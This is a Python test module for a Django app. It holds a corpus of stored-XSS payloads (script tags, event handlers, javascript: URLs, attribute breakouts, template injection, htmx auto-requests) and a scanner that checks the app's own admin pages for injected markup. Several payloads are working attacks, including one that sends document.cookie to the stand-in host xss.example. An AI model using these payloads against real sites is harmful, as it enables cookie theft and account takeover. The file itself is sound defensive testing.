"""Stored-XSS payloads: strings a visitor (or a marketer) types, meant to become markup or script.

TESTPLAN W-1 submits them through the widget API and looks for them in the admin; W-2 and W-3
(and any page that shows what people typed) can take the same corpus. Each payload has a short
``id`` (usable in test ids and as a domain label) and a ``family``. ``email_for`` turns a payload
into an e-mail address Django's EmailValidator accepts, where one exists; ``SCAN_ADMIN_PAGE``
looks in a rendered admin page for anything a stored value turned into.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

from django.core.exceptions import ValidationError
from django.core.validators import EmailValidator

LONG_LENGTH = 10 * 1024
MAX_EMAIL = 254
_validate_email = EmailValidator()
# Inside a quoted local part these must be escaped with a backslash (RFC 5322 quoted-pair).
_NEEDS_ESCAPE = re.compile(r'([\t "\\])')


@dataclass(frozen=True)
class Payload:
    id: str
    family: str
    text: str


def _payloads(family: str, *texts: str) -> list[Payload]:
    return [Payload(f"{family}-{n}", family, text) for n, text in enumerate(texts, 1)]


_LONG = ('<img src=x onerror=alert(1)>"><script>alert(1)</script>' * 200)[:LONG_LENGTH]

PAYLOADS: tuple[Payload, ...] = tuple(
    _payloads(
        "script",
        "<script>alert(1)</script>",
        "<SCRIPT>alert(document.domain)</SCRIPT>",
        "<script src=//xss.example/x.js></script>",
        "<script/src=data:,alert(1)></script>",
        "</script><script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script>confirm(1)</script>",
        "<script>prompt(1)</script>",
        "<ScRiPt>fetch('//xss.example/'+document.cookie)</sCrIpT>",
    )
    + _payloads(
        "handler",
        "<img src=x onerror=alert(1)>",
        '<img src="x" onerror="alert(1)">',
        "<IMG SRC=x OnErRoR=alert(1)>",
        "<img src=x onerror=alert`1`>",
        "<body onload=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)>",
        "<iframe onload=alert(1)></iframe>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<div onmouseover=alert(1)>hover me</div>",
        "<a href=# onclick=alert(1)>click</a>",
        "<x contenteditable onblur=alert(1)>lose focus</x>",
    )
    + _payloads(
        "svg",
        "<svg onload=alert(1)>",
        "<svg/onload=alert(1)//",
        "<svg><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    )
    + _payloads(
        "url",
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        '<a href="javascript:alert(1)">x</a>',
        '<a href="JaVaScRiPt:alert(1)">x</a>',
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
        '<a href="&#x6A;avascript&#x3A;alert(1)">x</a>',
        '<a href="java&#x09;script:alert(1)">x</a>',
        "javascript&colon;alert(1)",
        '<iframe src="javascript:alert(1)"></iframe>',
        '<form action="javascript:alert(1)"><button>go</button></form>',
        '<object data="javascript:alert(1)"></object>',
        '<embed src="javascript:alert(1)">',
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
        '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
        '<base href="javascript:alert(1)//">',
    )
    + _payloads(
        "breakout",
        '"><img src=x onerror=alert(1)>',
        "'><img src=x onerror=alert(1)>",
        '" onmouseover="alert(1)',
        "' onfocus='alert(1)' autofocus='",
        '" autofocus onfocus=alert(1) x="',
        "</td><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>",
        "</title><script>alert(1)</script>",
        "--><script>alert(1)</script>",
        '<!--<img src="--><img src=x onerror=alert(1)//">',
        "</style><script>alert(1)</script>",
        "]]><script>alert(1)</script>",
        '\\"; alert(1); //',
    )
    + _payloads(
        "template",
        "{{ request }}",
        "{% debug %}",
        "{{7*7}}",
        "${7*7}",
        "{{constructor.constructor('alert(1)')()}}",
        "{% load static %}{% static 'x' %}",
        "{{ settings.SECRET_KEY }}",
        "#{7*7} <%= 7*7 %> [[${7*7}]]",
    )
    + _payloads(
        "htmx",
        '<div hx-get="/logout/" hx-trigger="load">x</div>',
        '<button hx-post="/dialogues/1/delete/" hx-trigger="load">x</button>',
        '<div hx-on:htmx:load="alert(1)">x</div>',
    )
    + _payloads(
        "unicode",
        "Ma\u200bya \u202eevil\u202c",
        "\u202egnp.exe",
        "\u2066isolated\u2069 text",
        "zero\u200dwidth\u200cjoiners",
        "\ufeffbyte order mark",
        "\u200f\u05e9\u05dc\u05d5\u05dd <b>rtl</b>",
        "<scr\u200bipt>alert(1)</scr\u200bipt>",
        "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
        "multi\nline <b>bold</b>\ttab",
    )
    + _payloads(
        "encoding",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    )
    + _payloads("long", _LONG)
)


def email_for(text: str, domain: str) -> str | None:
    """``text`` as the local part of an address at ``domain`` that EmailValidator accepts.

    As it is when that is valid, else as a quoted local part (``"<script>…"@domain``, with tabs,
    spaces, quotes and backslashes escaped); None when neither is valid (line breaks, characters
    beyond ASCII, longer than an address may be).
    """
    quoted = '"' + _NEEDS_ESCAPE.sub(r"\\\1", text) + '"'
    for local in (text, quoted):
        address = f"{local}@{domain}"
        if len(address) > MAX_EMAIL:
            continue
        try:
            _validate_email(address)
        except ValidationError:
            continue
        return address
    return None


# Run in one of our server-rendered pages once it loaded (``page.evaluate``); answers
# ``{problems, leaves}``. Our pages carry no inline handlers, no images or frames, no SVG but our
# icons and the reports' charts (each with its own title), no ``details`` but the reports' tables
# behind the charts, and only scripts with the response's nonce: anything else came from a stored
# value.
# ``leaves`` are the textContent of the elements without child elements: a value shown as text
# is one of them exactly, a value that became markup is not.
SCAN_ADMIN_PAGE = """() => {
  const problems = [];
  const nonce = document.head.querySelector("script")?.nonce || "";
  for (const script of document.scripts) {
    const ours = script.src === "" || script.src.startsWith(location.origin + "/static/");
    if (!nonce || script.nonce !== nonce || !ours) {
      problems.push(`script: ${script.src || script.textContent.slice(0, 120)}`);
    }
  }
  const urls = new Set(["href", "src", "action", "formaction", "xlink:href", "data", "srcdoc"]);
  for (const element of document.querySelectorAll("*")) {
    for (const attribute of element.attributes) {
      const name = attribute.name.toLowerCase();
      const value = attribute.value.replace(/[\\u0000-\\u0020]/g, "").toLowerCase();
      if (name.startsWith("on")) problems.push(`${element.localName}[${name}]`);
      if (urls.has(name) && /^(javascript|vbscript|data):/.test(value)) {
        problems.push(`${element.localName}[${name}="${attribute.value}"]`);
      }
    }
  }
  const foreign = "img, iframe, frame, frameset, object, embed, math, video, audio, source,"
    + " marquee, details:not(.report-data), base, svg:not(.icon, .chart), body meta, body link,"
    + " body style, body title:not(svg.chart > title)";
  for (const element of document.querySelectorAll(foreign)) {
    const names = [...element.attributes].map((attribute) => attribute.name).join(" ");
    problems.push(`element: <${element.localName} ${names}>`);
  }
  const leaves = [...document.body.querySelectorAll("*")]
    .filter((element) => element.childElementCount === 0)
    .map((element) => element.textContent);
  return {problems, leaves};
}"""
# Give late handlers (autofocus, media errors) a frame to run in before the page is read.
SETTLE = "() => new Promise((done) => requestAnimationFrame(() => setTimeout(done, 0)))"
